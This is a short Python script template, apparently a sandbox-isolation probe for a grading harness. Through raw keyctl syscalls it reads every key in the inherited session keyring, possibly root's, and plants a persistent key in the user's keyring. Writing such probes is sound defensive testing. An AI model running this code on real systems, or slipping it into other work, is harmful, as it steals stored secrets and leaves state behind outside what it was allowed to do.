# Attack: the kernel's keyrings are not namespaced. Read the keys in the session keyring this
# process inherited from the grader (root's, when the grader runs as root), and leave a key in this
# uid's own keyring, which the kernel keeps after the grading is over.
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
KEYCTL, ADD_KEY = {{KEYCTL}}, {{ADD_KEY}}  # the machine's numbers (250 and 248 on x86-64)
KEYCTL_READ, SESSION, USER = 11, -3, -4


def keyctl(*args):
    return libc.syscall(ctypes.c_long(KEYCTL), *[ctypes.c_long(a) if isinstance(a, int) else a for a in args])


buffer = ctypes.create_string_buffer(4096)
seen = []
count = keyctl(KEYCTL_READ, SESSION, buffer, len(buffer))
for offset in range(0, max(count, 0), 4):
    key = int.from_bytes(buffer.raw[offset : offset + 4], "little")
    size = keyctl(KEYCTL_READ, key, buffer, len(buffer))
    seen.append(buffer.raw[: max(size, 0)].decode(errors="replace"))
left = libc.syscall(ctypes.c_long(ADD_KEY), b"user", b"{{MARKER}}", b"x" * 1000, ctypes.c_size_t(1000), ctypes.c_long(USER))
print("session keys:", seen, "key left:", left)
raise RuntimeError(f"keys {seen}, left {left > 0}")
